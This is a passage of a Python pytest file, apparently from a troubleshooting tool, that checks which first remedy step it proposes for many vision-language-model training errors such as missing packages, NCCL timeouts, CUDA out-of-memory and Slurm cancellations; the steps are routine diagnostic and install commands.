"""What is advised is what can be typed: values of the log in it, the step that fits first, no harm."""

# ruff: noqa: E501
from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys

import pytest

from tests.explain import compose
from vlmguard.explain import flags, looks, named, packages
from vlmguard.explain.beforehand import TITLES
from vlmguard.explain.catalogue import load
from vlmguard.explain.command import explain
from vlmguard.explain.failure import Do
from vlmguard.explain.logfacts import Facts, of_text
from vlmguard.explain.show import text
from vlmguard.rules import RULES
from vlmguard_colossalai.rules import RULES as GEMINI

KNOWN = {known.code: known for known in load()}


def steps(code: str, message: str, **facts: object) -> list[str]:
    said = Facts(message=message, **facts)
    return [flags.say(do, said) for do in KNOWN[code].remedies(said)]


# class, message, framework, the beginning of the first step
FIRST = {
    "a missing package": ("VG552", "ModuleNotFoundError: No module named 'qwen_vl_utils'", "ms-swift", "python -m pip install qwen-vl-utils"),
    "its name is another": ("VG552", "ModuleNotFoundError: No module named 'cv2'", "", "python -m pip install opencv-python-headless"),
    "a stranger's name": ("VG552", "ModuleNotFoundError: No module named 'llava_utils'", "", "llava_utils is no package that is known here: cd to the repository"),
    "a part that moved": ("VG552", "ModuleNotFoundError: No module named 'swift.llm'", "ms-swift", "python -m pip install 'ms-swift<4'"),
    "a name": ("VG552", "ImportError: cannot import name 'EvalBackend' from 'evalscope.constants' (/x.py)", "", "python -m pip show evalscope"),
    "a port": ("VG542", "DistNetworkError: port: 51216, useIpv6: false, code: -98, name: EADDRINUSE", "ms-swift", "ss -ltnp 'sport = :51216'"),
    "a port, accelerate": ("VG542", "DistNetworkError: port: 29500, name: EADDRINUSE", "accelerate", "ss -ltnp 'sport = :29500'"),
    "an old name": ("VG553", "TypeError: TrainingArguments.__init__() got an unexpected keyword argument 'evaluation_strategy'", "", "eval_strategy instead of evaluation_strategy"),
    "no longer there": ("VG553", "TypeError: __init__() got an unexpected keyword argument 'overwrite_output_dir'", "TRL", "leave overwrite_output_dir out"),
    "an unknown flag": ("VG553", "sft.py: error: unrecognized arguments: --lora_rnk 8", "ms-swift", "swift sft --help | grep -i lora: the name that this release has; lora_rnk is"),
    "a gated model": ("VG539", "OSError: You are trying to access a gated repo. Make sure to have access to it at https://huggingface.co/google/gemma-3-12b-it.", "", "ask for access on https://huggingface.co/google/gemma-3-12b-it"),
    "no right to write": ("VG539", "HfHubHTTPError: 403 Client Error: Forbidden for url: https://huggingface.co/api/models/a/b/commit/main", "", "a token with the right to write"),
    "a video": ("VG555", "DECORDError: ERROR opening: /data/v/a.mp4, Invalid data found", "", "ls -l /data/v/a.mp4"),
    "a job": ("VG530", "slurmstepd: error: *** JOB 142382 ON n CANCELLED DUE TO TIME LIMIT ***", "", "ls -td ./*/checkpoint-*"),
    "open files": ("VG543", "RuntimeError: received 0 items of ancdata", "", "ulimit -n $(ulimit -Hn)"),
    "a driver": ("VG537", "RuntimeError: The NVIDIA driver on your system is too old (found version 12020).", "", "python -m pip install --force-reinstall torch torchvision --index-url https://download.pytorch.org/whl/cu121"),
    "no NCCL": ("VG537", "RuntimeError: Distributed package doesn't have NCCL built in", "", "python -c 'import torch; print(torch.__version__"),
    "another libc": ("VG538", "ImportError: version GLIBC_2.32' not found (required by /e/lib/python3.10/site-packages/flash_attn_2_cuda.cpython-310.so)", "", "FLASH_ATTENTION_FORCE_BUILD=TRUE"),
    "torchvision": ("VG538", "RuntimeError: operator torchvision::nms does not exist", "", "python -m pip install --force-reinstall --no-deps 'torchvision==0.N.*'"),
    "a wrapper": ("VG586", "AttributeError: 'DistributedDataParallel' object has no attribute 'generate'", "", "accelerator.unwrap_model(model).generate"),
    "vLLM's cache": ("VG512", "ValueError: No available memory for the cache blocks.", "TRL", "--vllm_gpu_memory_utilization 0.7"),
    "replicas": ("VG512", "torch.OutOfMemoryError: Caught OutOfMemoryError in replica 0 on device 0. CUDA out of memory", "", "torchrun --nproc_per_node $(nvidia-smi -L"),
    "padding": ("VG574", "ValueError: Asking to pad but the tokenizer does not have a padding token.", "TRL", "tokenizer.pad_token = tokenizer.eos_token"),
    "a template": ("VG574", "ValueError: Template qwen3 does not exist.", "LLaMA-Factory", "python -m pip install -U llamafactory: qwen3"),
    "accelerate's keys": ("VG575", "ValueError: had unknown keys (['lr_scheduler']), please try upgrading", "accelerate", "take lr_scheduler out"),
    "nothing trains": ("VG507", "ValueError: optimizer got an empty parameter list", "", "print([n for n, p in model.named_parameters()"),
    "too few positions": ("VG511", "RuntimeError: The size of tensor a (716) must match the size of tensor b (512) at non-singleton dimension 1", "", "truncation=True, max_length=512"),
    "links, not images": ("VG505", "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1, OpType=BROADCAST, NumelIn=1)", "", "NCCL_DEBUG=INFO NCCL_P2P_DISABLE=1"),
    "a data loader's map": ("VG544", "RuntimeError: One of the subprocesses has abruptly died during map operation.", "LLaMA-Factory", "preprocessing_num_workers: 1"),
    "ssh": ("VG536", "localhost: u@localhost: Permission denied (publickey,password).", "", "ssh localhost hostname"),
    "a terminal": ("VG569", "Sending process 1 closing signal SIGHUP", "", "nohup COMMAND"),
    "a Qwen-VL of before 4.52": ("VG570", "AttributeError: 'Qwen2_5_VLForConditionalGeneration' object has no attribute 'visual'", "", "python -m pip install 'transformers<4.52'"),
    "Hydra": ("VG553", "omegaconf.errors.ConfigAttributeError: Key 'actor' is not in struct full_key: actor", "", "+NAME=VALUE adds a key that Hydra's file lacks (NAME with its dots: actor"),
    "PBS": ("VG530", "=>> PBS: job killed: walltime 259217 exceeded limit 259200", "", "ls -td ./*/checkpoint-*"),
    "NVLink SHARP": ("VG562", "[7] transport/nvls.cc:157 NCCL WARN Cuda failure 1 'invalid argument'", "", "NCCL_NVLS_ENABLE=0"),
    "labels are there already": ("VG589", "ValueError: The model did not return a loss from the inputs, only the following keys: logits. For reference, the inputs it received are input_ids,attention_mask,labels.", "", "--use_liger_kernel false"),
    "other ranks than before": ("VG550", "The checkpoint being loaded used a DP world size of 8 but the current world size is 16.", "", "torchrun --nproc_per_node 8 … (× --nnodes = 8 in all; deepspeed --num_gpus 8, accelerate launch --num_processes 8): as many ranks as the run that saved it had, not 16"),
    "a checkpoint": ("VG550", "ValueError: Can't find a valid checkpoint at /data/output/v0-20240318/checkpoint-100", "", "ls -la /data/output/v0-20240318/checkpoint-100"),
    "a file that is not there": ("VG554", "FileNotFoundError: Unable to find '/data/rows/mocked_512.json'", "", "ls -l /data/rows/mocked_512.json"),
    "DeepSpeed's file": ("VG575", "ValueError: Expected a string path to an existing deepspeed config, or a dictionary, or a base64 encoded string. Received: configs/ds_z9.json", "TRL", "ls -l configs/ds_z9.json"),
    "a package in other words": ("VG552", "ImportError: DeepSpeed is not installed => run `pip3 install deepspeed` or build it from source.", "accelerate", "python -m pip install deepspeed"),
    "a tracker's package": ("VG565", "ValueError: You are using swanlab as `report_to`, please install swanlab by `pip install swanlab`", "ms-swift", "python -m pip install swanlab"),
    "PEFT is too old": ("VG570", "ValueError: The version of PEFT you are using is not compatible, please use a version that is greater than 0.5.0", "", "python -m pip install -U peft"),
    "an image of very many tokens": ("VG506", "ValueError: Image features and image tokens do not match, tokens: 2992, features: 262144", "ms-swift", "--max_pixels"),
    "a port that nobody gave": ("VG517", "ValueError: The port number of the rendezvous endpoint 'None:None' must be an integer between 0 and 65536.", "accelerate", "accelerate launch --main_process_port 29500"),
    "one dimension more": ("VG597", "ValueError: Target size (torch.Size([10])) must be the same as input size (torch.Size([10, 1]))", "", "logits.squeeze(-1)"),
    "an adapter's folder": ("VG585", "ValueError: Can't find 'adapter_config.json' at 'out/checkpoint-700'", "", "ls -la out/checkpoint-700"),
    "what is asked for": ("VG552", "ImportError: Using the `Trainer` with `PyTorch` requires `accelerate>=0.20.1`: Please run `pip install transformers[torch]`", "", "python -m pip install 'accelerate>=0.20.1'"),
    "liger": ("VG552", "ImportError: liger-kernel >= 0.3.0 is not available. Please install it with `pip install liger-kernel`", "TRL", "python -m pip install liger-kernel"),
    "a torch that is too old": ("VG550", "ValueError: `torch.load`, even with `weights_only=True`, we now require users to upgrade torch to at least v2.6", "", "python -m pip install 'torch>=2.6'"),
    "a page is no model": ("VG540", "OSError: We couldn't connect to 'https://huggingface.co'; see 'https://huggingface.co/docs/transformers/installation#offline-mode'.", "", "curl -sSI https://huggingface.co"),
    "a folder that is not there": ("VG539", "ValueError: path: '/data/models/Qwen2-VL-7B-Instruct' not found", "ms-swift", "ls -l /data/models/Qwen2-VL-7B-Instruct"),
    "a number, not a gradient": ("VG505", "Watchdog caught collective operation timeout: WorkNCCL(SeqNum=4417, OpType=ALLREDUCE, NumelIn=1, NumelOut=1", "ms-swift", "dmesg -T"),
    "which card": ("VG529", "ValueError: Your setup doesn't support bf16/gpu. You need to assign use_cpu", "", "python -c 'import torch"),
    "a card without it": ("VG529", "ValueError: Your setup doesn't support bf16/gpu. You need torch>=1.10, using Ampere GPU", "LLaMA-Factory", "python -c 'import torch; print(torch.cuda.is_available() and torch.cuda.get_device_name(0))': V100, P100, T4, RTX 20 or older: fp16: true, bf16: false"),
    "nothing trains, ms-swift": ("VG507", "RuntimeError: DistributedDataParallel is not needed when a module doesn't have any parameter that requires a gradient.", "ms-swift", "--freeze_llm false"),
    "every part is frozen": ("VG525", "ValueError: Target modules set() not found in the base model.", "LLaMA-Factory", "freeze_language_model: false"),
    "4 bits are bytes": ("VG519", "ValueError: Must flatten tensors with uniform dtype but got torch.float32 and torch.uint8", "axolotl", "BitsAndBytesConfig(load_in_4bit=True, bnb_4bit_quant_storage"),
    "float16 that trains": ("VG520", "ValueError: Attempting to unscale FP16 gradients.", "accelerate", "for p in model.parameters(): p.data = p.data.float()"),
    "a model that was split": ("VG527", "RuntimeError: Expected all tensors to be on the same device, but found at least two devices, cuda:0 and cuda:1!", "transformers", "CUDA_VISIBLE_DEVICES=0"),
    "a model that spilled": ("VG527", "RuntimeError: Expected all tensors to be on the same device, but found at least two devices, cuda:0 and cpu!", "transformers", "from_pretrained(…, device_map="),
    "a node that failed": ("VG533", "srun: error: Node failure on gpu-11", "", "sbatch --exclude=gpu-11"),
    "a node that is left to say so": ("VG533", "slurmstepd: error: *** STEP 55012.0 ON gpu-11 CANCELLED AT 2025-03-02T03:00:00 DUE TO NODE FAILURE", "", "sacct -j 55012 "),
    "memory that nobody has": ("VG532", "RuntimeError: DefaultCPUAllocator: can't allocate memory: you tried to allocate 4503599627370496 bytes.", "", "free -g; ps -eo"),
    "a name that is no interface": ("VG536", "DistBackendError: ncclInternalError: Internal check failed. Last error: Bootstrap : no socket interface found", "", "unset NCCL_SOCKET_IFNAME"),
    "whoever is reached": ("VG536", "misc/socket.cc:390 NCCL WARN Connect to 10.38.10.112<21724> failed : Connection refused", "", "NCCL_SOCKET_IFNAME=$(ip route show default | grep -oP 'dev \\K\\S+' | head -1)"),
    "a driver of no number": ("VG537", "RuntimeError: cuda runtime error (35) : CUDA driver version is insufficient for CUDA runtime version", "", "nvidia-smi | grep -o 'CUDA Version"),
    "no_sync": ("VG513", "AssertionError: no_sync context manager is incompatible with gradient partitioning logic of ZeRO stage 3", "LLaMA-Factory", "python -m pip install 'deepspeed==0.15.4'"),
    "placeholders that are spelt out": ("VG506", "ValueError: The input provided to the model are wrong. The number of image tokens is 576 while the number of image given to the model is 1.", "LLaMA-Factory", "python -m pip install -U 'transformers>=4.45'"),
    "a larger vocabulary": ("VG522", "RuntimeError: size mismatch for base_model.model.model.embed_tokens.weight: copying a param with shape torch.Size([32008, 4096]) from checkpoint, the shape in current model is torch.Size([32001, 4096]).", "", "model.resize_token_embeddings(32008)"),
    "a cache for one long row": ("VG512", "ValueError: To serve at least one request with the models's max seq len (128000), (6.84 GiB KV cache is needed", "ms-swift", "--vllm_max_model_len 8192"),
    "an engine's dtype": ("VG529", "ValueError: Bfloat16 is only supported on GPUs with compute capability of at least 8.0. for example: --dtype=half.", "", 'LLM(…, dtype="half")'),
    "float16, full": ("VG520", "ValueError: Attempting to unscale FP16 gradients.", "ms-swift", "--torch_dtype float32 --fp16 true"),
    "a number of tensors": ("VG504", "CheckpointError: A different number of tensors was saved during the original forward and recomputation.", "", "model.config.use_cache = False"),
    "a batch that nobody tells": ("VG512", "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.", "TRL", "--gradient_checkpointing true"),
    "what was being written": ("VG535", "OSError: [Errno 28] No space left on device: 'out/checkpoint-20/optimizer.pt'", "", "df -h out/checkpoint-20"),
    "tied, LLaMA-Factory": ("VG546", "RuntimeError: Some tensors share memory", "LLaMA-Factory", "save_safetensors: false"),
    "two that belong together": ("VG503", "RuntimeError: Expected to have finished reduction in the prior iteration", "TRL", "--ddp_find_unused_parameters true --gradient_checkpointing_kwargs '{\"use_reentrant\": false}'"),
    "an accumulation that nobody tells": ("VG512", "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 9.28 GiB.", "LLaMA-Factory", "half of per_device_train_batch_size and twice"),
    "who is behind brackets": ("VG517", "The client socket has timed out after 60s while trying to connect to [node1]:29500 (errno: 111)", "", "nc -vz node1 29500"),
    "who does not answer": ("VG517", "DistNetworkError: The client socket has timed out after 300000ms while trying to connect to (10.0.0.7, 41331).", "", "nc -vz 10.0.0.7 41331"),
    "another dtype at recomputing": ("VG504", "CheckpointError: Recomputed values have different metadata: saved metadata: {'shape': torch.Size([4]), 'dtype': torch.float32} recomputed metadata: {'shape': torch.Size([4]), 'dtype': torch.bfloat16}", "", "with torch.utils.checkpoint.set_checkpoint_debug_enabled(True)"),
    "experts": ("VG508", "RuntimeError: ('ZERO DDP error', 'Reduction failed at followed parameters: model.layers.22.block_sparse_moe.experts.2.w1.weight", "ColossalAI", "MoeHybridParallelPlugin"),
    "who does not pack": ("VG516", "RuntimeError: cu_seqlens_q must have shape (batch_size + 1)", "transformers", 'from_pretrained(…, attn_implementation="sdpa")'),
    "who packs": ("VG516", "RuntimeError: cu_seqlens_q must have shape (batch_size + 1)", "ms-swift", "--packing false"),
    "saved in parts": ("VG522", "RuntimeError: size mismatch for weight: copying a param with shape torch.Size([0]) from checkpoint", "", "python zero_to_fp32.py . pytorch_model.bin"),
    "empty under ZeRO-3": ("VG522", "size mismatch for 2.weight: copying a param with shape torch.Size([4096, 4096]) from checkpoint, the shape in current model is torch.Size([0]).", "ms-swift", "--deepspeed zero2"),
    "inside of DDP": ("VG522", "RuntimeError: Error(s) in loading state_dict for DistributedDataParallel: Missing key(s)", "", "model.module.load_state_dict(state)"),
    "a tensor that is only a name": ("VG527", "RuntimeError: Tensor on device meta is not on the expected device cpu!", "", 'leave out device_map="auto" and low_cpu_mem_usage'),
    "a batch on the CPU": ("VG527", "RuntimeError: expected input to be on cuda", "ColossalAI", 'batch = {k: v.to("cuda")'),
    "a quota": ("VG535", "SafetensorError: Error while serializing: I/O error: Disk quota exceeded (os error 122)", "", "quota -s; du -xh"),
    "no room, no name": ("VG535", "OSError: [Errno 28] No space left on device", "", "df -h . /tmp ~"),
    "an interface": ("VG536", "RuntimeError: [enforce fail at device.cc:84] ifa != nullptr. Unable to find address for: eth9", "", "unset NCCL_SOCKET_IFNAME GLOO_SOCKET_IFNAME in the script that starts the job: eth9"),
    "a host by ssh": ("VG536", "RuntimeError: Using hostfile at hostfile but host=192.168.3.100 was not reachable via ssh.", "", "ssh 192.168.3.100 hostname"),
    "locked memory": ("VG536", "node08:6565:6600 [3] misc/ibvwrap.cc:280 NCCL WARN Call to ibv_create_qp failed", "", "ulimit -l"),
    "RoCE": ("VG536", "crow:5330:7970 [3] misc/ibvwrap.cc:284 NCCL WARN Call to ibv_modify_qp failed with error Invalid argument", "", "NCCL_IB_GID_INDEX=3"),
    "another optimizer": ("VG550", "ValueError: loaded state dict contains a parameter group that doesn't match the size of optimizer's group", "", "print(sum(p.requires_grad for p in model.parameters()))"),
    "what must be said": ("VG553", "run_chatglm.py: error: the following arguments are required: --output_dir", "", "--output_dir VALUE behind the command"),
    "whose help": ("VG553", "run_chatglm.py: error: argument --stage: invalid int value: 'x'", "", "--stage with another value: x"),
    "a launcher's rank": ("VG553", "sft.py: error: unrecognized arguments: --local_rank=0", "", 'parser.add_argument("--local_rank", "--local-rank"'),
    "no column is left": ("VG554", "IndexError: Invalid key: 47682 is out of bounds for size 0", "TRL", "--remove_unused_columns false"),
    "pixels without end": ("VG555", "PIL.Image.DecompressionBombError: Image size (90000 pixels) exceeds limit of 200 pixels", "", "PIL.Image.MAX_IMAGE_PIXELS = None"),
    "cards that are there": ("VG559", "MisconfigurationException: You requested GPUs: [0, 1] But your machine only has: [0]", "", "Trainer(devices=-1)"),
    "an older engine": ("VG566", "AttributeError: 'LLMEngine' object has no attribute 'model_executor'", "", "VLLM_ENABLE_V1_MULTIPROCESSING=0"),
    "no engine": ("VG566", "ImportError: vLLM is not available and `use_vllm` is set to True. Please install vLLM with `pip install vllm -U`", "TRL", "python -m pip install vllm"),
    "the lock itself": ("VG567", "filelock._error.Timeout: The file lock '/c/model.lock' could not be acquired.", "", "fuser -v /c/model.lock: nobody holds it"),
    "a step's number": ("VG569", "slurmstepd: error: *** STEP 853574.0 ON u20 CANCELLED AT 2023-04-27T19:13:46 ***", "", "sacct -j 853574 "),
    "a signal outside of a cluster": ("VG569", "torch/distributed/elastic/agent/server/api.py:753] Received 15 death signal, shutting down workers", "", "last -x | head -5"),
    "a Trainer of one's own": ("VG570", "TypeError: compute_loss() got an unexpected keyword argument 'num_items_in_batch'", "", "def compute_loss(self, model, inputs, return_outputs=False, num_items_in_batch=None)"),
    "who defines it": ("VG570", "TypeError: process_mine() got an unexpected keyword argument 'image_patch_size'", "", "grep -rn 'def process_mine(' "),
    "a range of releases": ("VG570", "ImportError: transformers>=4.41.2,<=4.45.0 is required for a normal functioning of this module, but found transformers==4.45.2.", "", "python -m pip install 'transformers>=4.41.2,<=4.45.0'"),
    "a part taken for the root": ("VG576", "AssertionError: Non-root FSDP instance's `_is_root` should not have been set yet", "", "call model(…), the wrapped one"),
    "a mount": ("VG580", "RuntimeError: write(): fd 29 failed with Input/output error", "", "id; df -h . /tmp ~"),
    "rows that nobody pads": ("VG582", "ValueError: Unable to create tensor, you should probably activate truncation and/or padding with 'padding=True'", "", "data_collator=DataCollatorForSeq2Seq(tokenizer"),
    "two dtypes in a bucket": ("VG588", "TypeError: output tensor must have the same type as input tensor", "", "print({p.dtype for p in model.parameters()})"),
    "a product": ("VG594", "AssertionError: World size 8 is not divisible by tp_size 1 * pp_size 3", "ColossalAI", "tp × pp × cp must be one of 1, 2, 4, 8"),
    "a rate far too high": ("VG515", "{'loss': 0.0, 'grad_norm': nan, 'learning_rate': 9.666666666666667e+19, 'epoch': 0.12}", "TRL", "--learning_rate 1e-5"),
    "columns that are not there": ("VG581", "TypeError: KeyInfoReward.__call__() missing 2 required positional arguments: 'clean_response' and 'key_response'", "ms-swift", "the rows' columns must have these names: 'clean_response, key_response'"),
    "features in another dtype": ("VG526", "RuntimeError: Index put requires the source and destination dtypes match, got BFloat16 for the destination and Float for the source.", "", "y.to(x.dtype)"),
    "pointers": ("VG541", "safetensors_rust.SafetensorError: Error while deserializing header: header too large", "", "find . ~/.cache/huggingface ~/.cache/modelscope -name '*.safetensors' -size -2k"),
    "a data base": ("VG567", "peewee.OperationalError: database is locked", "", "XDG_CACHE_HOME=/tmp/$USER"),
    "a class's own signature": ("VG570", "TypeError: LmdeployEngine.__init__() got an unexpected keyword argument 'reranker_use_activation'", "ms-swift", "grep -rnE -A20 'class LmdeployEngine\\b' "),
    "a group of answers": ("VG553", "ValueError: The global train batch size (3 x 1) must be evenly divisible by the number of generations per prompt (4).", "TRL", "--num_generations 3: 3 ranks × micro-batch 1 = 3 rows"),
    "another number of rows": ("VG554", "pyarrow.lib.ArrowInvalid: Column 4 named labels expected length 1007 but got length 1000", "", "dataset.map(…, remove_columns=dataset.column_names)"),
    "variables of two scripts": ("VG590", "srun: fatal: cpus-per-task set by two different environment variables SLURM_CPUS_PER_TASK=13 != SLURM_TRES_PER_TASK=cpu=8", "", "unset SLURM_CPUS_PER_TASK"),
    "accelerate's file": ("VG575", "FileNotFoundError: The passed configuration file `configs/accelerate.yaml` does not exist.", "accelerate", "ls -l configs/accelerate.yaml"),
    "Ray's own killer": ("VG532", "(raylet) node_manager.cc:3277: 2 Workers (tasks / actors) killed due to memory pressure (OOM)", "", "free -g"),
    "a peer that closed": ("VG536", "misc/socket.cc:50 NCCL WARN socketProgress: Connection closed by remote peer 10-12-3-162<55133>", "", "dmesg -T"),
    "ModelScope's names": ("VG539", "requests.exceptions.HTTPError: 404 Client Error: Not Found for url: https://www.modelscope.cn/api/v1/models/meta-llama/Meta-Llama-3-8B/revisions", "", "curl -sSI https://modelscope.cn/models/meta-llama/Meta-Llama-3-8B"),
    "another model's weights": ("VG522", "size mismatch for k_proj.weight: copying a param with shape torch.Size([1024, 1024]) from checkpoint, the shape in current model is torch.Size([768, 768]).", "", "grep -rE"),
    "scores, not classes": ("VG587", "ValueError: operands could not be broadcast together with shapes (94984467,2) (94984467,)", "", "in compute_metrics: preds = preds[0]"),
    "what to switch to": ("VG590", "sbatch: error: Parameter --gres=gpu:1 no longer acceptable, please switch to --gpus=1", "", "the options behind 'switch to'"),
    "an old GRPOTrainer": ("VG570", "TypeError: GRPOTrainer._get_train_sampler() takes 1 positional argument but 2 were given", "TRL", "python -m pip install -U trl"),
    "a folder that every rank renames": ("VG580", "FileNotFoundError: [Errno 2] No such file or directory: 'out/tmp-checkpoint-1000' -> 'out/checkpoint-1000'", "", "python -m pip install -U 'transformers>=4.37.2'"),
    "ranks that gather different weights": ("VG505", "RuntimeError: disagreement between rank0 and rank1: rank0: [36, 37, 38], rank1: [36, 38, 40]", "ms-swift", "--deepspeed zero2"),
    "ms-swift and TRL": ("VG570", "AttributeError: 'GRPOTrainer' object has no attribute 'vllm_client'", "ms-swift", "python -m pip install -U ms-swift trl"),
    "a step that is written small": ("VG532", "slurmstepd: error: Detected 2 oom-kill event(s) in step 3756240.batch cgroup.", "", "#SBATCH --mem=0"),
    "a list, please": ("VG553", "pydantic_core._pydantic_core.ValidationError: 1 validation error for AxolotlConfig pretraining_dataset Input should be a valid list [type=list_type", "axolotl", "a list in the YAML"),
    "a configuration's own names": ("VG553", "TypeError: PPOConfig.__init__() got an unexpected keyword argument 'kl_penalty'", "", "python - <<< 'import inspect, trl, transformers; c = getattr(trl, \"PPOConfig\", 0)"),
    "a model's own code": ("VG570", "AttributeError: 'Resampler' object has no attribute '_initialize_weights'", "", "grep -r transformers_version "),
    "a folder without a tokenizer": ("VG539", "OSError: Can't load tokenizer for '/models/xlmr'. If you were trying to load it from 'https://huggingface.co/models', make sure", "", "ls -l /models/xlmr"),
    "a download that does not agree": ("VG541", "modelscope.hub.errors.FileIntegrityError: File /c/hub/model-00002-of-00002.safetensors integrity check failed, expected sha256", "", "ls -lL /c/hub/model-00002-of-00002.safetensors: delete it"),
    "rows that are no JSON": ("VG554", "datasets.exceptions.DatasetGenerationError: An error occurred while generating the dataset", "", "python -c $'import json, sys"),
    "whose help, then": ("VG553", "run_chatglm.py: error: unrecognized arguments: --stagee 2", "", "python run_chatglm.py --help | grep -i stagee"),
    "a choice": ("VG553", "sft.py: error: argument --torch_dtype/--torch-dtype: invalid choice: 'fp8' (choose from 'bfloat16', 'float16')", "ms-swift", "one of the values behind 'choose from' for --torch_dtype: fp8"),
    "no number": ("VG553", "sft.py: error: argument --learning_rate/--learning-rate: invalid float value: '1e-4x'", "ms-swift", "--learning_rate with another value: 1e-4x"),
    "an actor": ("VG563", "ray.exceptions.ActorDiedError: The actor died unexpectedly before finishing this task.", "", "tail -n 40 /tmp/ray/session_latest/logs/worker-*.err"),
    "a dummy of nothing": ("VG575", "ValueError: You cannot create a DummyScheduler without specifying a scheduler in the config file.", "accelerate", "transformers.get_scheduler(…)"),
    "weights on meta": ("VG519", "ValueError: Must flatten tensors on the same device but got both cuda:0 and meta", "", "FullyShardedDataParallel(…, sync_module_states=True"),
    "frames a second": ("VG510", "ValueError: The length of fps (3) must be equal to the length of video_grid_thw (1) or fps should be a single number.", "", "fps as one number"),
    "a toolkit of another release": ("VG557", "CUDAMismatchException: >- DeepSpeed Op Builder: Installed CUDA version 11.8 does not match the version torch was compiled with 12.4, unable to compile", "", "ls -d /usr/local/cuda*: where cuda-12.4 is there"),
    "a pod that was preempted": ("VG531", "12s Warning Preempted pod/vlm-0 Preempted by pod 1d0c99c2 on node gpu-4", "", "kubectl get events"),
    "a job that was": ("VG531", "slurmstepd: error: *** JOB 42424 ON n1 CANCELLED AT 2026-01-01 DUE TO PREEMPTION ***", "", "squeue -j 42424"),
    "a rate that is none": ("VG515", "{'loss': 0.0, 'grad_norm': nan, 'learning_rate': 1e-05, 'epoch': 0.12}", "TRL", "--bf16 true"),
}  # fmt: skip


@pytest.mark.parametrize("name", FIRST)
def test_the_first_step(name):
    code, message, framework, first = FIRST[name]
    assert steps(code, message, framework=framework)[0].startswith(first)


@pytest.mark.parametrize(("accumulation", "said"), [(None, "2 (2 × yours, if you set one)"), (4, "8")])
def test_a_batch_is_halved_by_what_is_known(accumulation, said):
    told = steps("VG512", "CUDA out of memory.", framework="LLaMA-Factory", micro=2, accumulation=accumulation)
    assert told[0] == f"per_device_train_batch_size: 1, gradient_accumulation_steps: {said}"


GIVEN = {
    "rows, of a file that is told": ("VG510", "ValueError: x", {"dataset": "['a.jsonl', 'b.jsonl']"}, "FILE", "a.jsonl"),
    "a data file": ("VG554", "IndexError: list index out of range", {"train_data": "rows.json"}, "head -c 600 rows.json", ""),
    "a checkpoint": ("VG550", "AssertionError: ", {"resume_from_checkpoint": "out/checkpoint-20"}, "ls -la out/checkpoint-20", ""),
    "its optimizer": ("VG550", "ValueError: loaded state dict has a different number of parameter groups", {"resume_from_checkpoint": "out/checkpoint-20"}, "ls -l out/checkpoint-20/optimizer.pt out/checkpoint-20/scheduler.pt", ""),
    "an adapter": ("VG522", "size mismatch for lora_A", {"adapters": "out/v1/checkpoint-9"}, "grep -E '\"(r|lora_rank|target_modules|base_model_name_or_path)\"' out/v1/checkpoint-9/adapter_config.json", ""),
    "DeepSpeed's JSON": ("VG575", "json.decoder.JSONDecodeError: Expecting ',' delimiter: line 7 column 3 (char 91)", {"deepspeed": "conf/ds.json"}, "python -m json.tool conf/ds.json: line 7", ""),
    "no file, but a name": ("VG575", "json.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)", {"deepspeed": "zero5"}, "--deepspeed zero2", ""),
}  # fmt: skip


@pytest.mark.parametrize("name", GIVEN)
def test_the_runs_own_files_are_named(name):
    code, message, said, first, told = GIVEN[name]
    step = steps(code, message, said=said, framework="ms-swift")[0]
    assert told in step if told else step.startswith(first)
    assert not told or first not in step


MINE = 'File "/w/sft.py", line 7, in <module> trainer.train() '
# What the log says of the run, class, message, trace → the beginning of the first step.
RUNS = (
    ("torchrun ft.py --grad_checkpoint True --use_llm_lora 16\n", "VG507", "element 0 of tensors does not require grad", MINE, "model.language_model.enable_input_require_grads() in /w/sft.py"),
    ("x transformers/trainer.py x\n", "VG506", "value tensor of shape [640, 4096] cannot be broadcast to indexing result of shape [577, 4096]", MINE, "grep -niE 'max_(seq_|model_)?len' /w/sft.py"),
    ("python train.py --max_seq_len 512\n", "VG506", "value tensor of shape [640, 4096] cannot be broadcast to indexing result of shape [577, 4096]", MINE, "--max_seq_len 1024"),
    ("x\n", "VG544", "RuntimeError: DataLoader worker (pid 7) is killed by signal: Segmentation fault.", "", "PYTHONFAULTHANDLER=1 in front of the command, and DataLoader(num_workers=0)"),
    ("x transformers/trainer.py x\n", "VG544", "RuntimeError: DataLoader worker (pid 7) is killed by signal: Killed.", "", "dmesg -T | grep -i -E 'killed process|oom' | tail"),
    ("x colossalai x\n", "VG508", "RuntimeError: ('ZERO DDP error', 'Reduction failed at followed parameters:\\n\\tvision_tower.layers.2.w')", "", "Image.new(\"RGB\", (336, 336)), in the collator"),
    ("x colossalai x\n", "VG509", "The plugin GeminiPlugin does not support lora.", MINE, "model = peft.get_peft_model(model, lora_config) in place of booster.enable_lora(…) in /w/sft.py:7"),
    ("Saving model checkpoint to out/run1/checkpoint-400\n", "VG530", "DUE TO TIME LIMIT", "", "--resume_from_checkpoint out/run1/checkpoint-400 "),
    ("llamafactory-cli train x.yaml\nSaving model checkpoint to saves/checkpoint-80\n", "VG531", "JOB 9 CANCELLED AT", "", "resume_from_checkpoint: saves/checkpoint-80"),
    ("torchrun train.py --max_len 32 --bf16 True\n", "VG506", "tokens: 64, features 4608", "", "--max_len 8192"),
    ("deepspeed ft.py --deepspeed conf/zero3.json --per_device_train_batch_size 1 --bf16 True --gradient_checkpointing True\n", "VG512", "CUDA out of memory", "", '"offload_optimizer": {"device": "cpu"} under "zero_optimization" in conf/zero3.json'),
    ("train.py --train_batch_size 8 --gradient_accumulation_steps 2 --per_device_train_batch_size 8\n", "VG512", "CUDA out of memory", "", "--per_device_train_batch_size 4 --gradient_accumulation_steps 4"),
    ("python ft.py --fp16 True\n", "VG515", "{'loss': nan", "", "--bf16 True --fp16 False"),
    ("deepspeed ft.py --bf16 --model_name_or_path gpt2\n", "VG529", "bf16/gpu: Tesla V100", "", "--fp16 in place of --bf16"),
    ("accelerate launch --config_file conf/fsdp.yaml train.py\n", "VG519", "Must flatten tensors with uniform `requires_grad`", "", "fsdp_use_orig_params: true in conf/fsdp.yaml"),
    ("accelerate launch --config_file z3.yaml train.py\n", "VG523", "'weight' must be 2-D", "", "zero_stage: 2 in z3.yaml"),
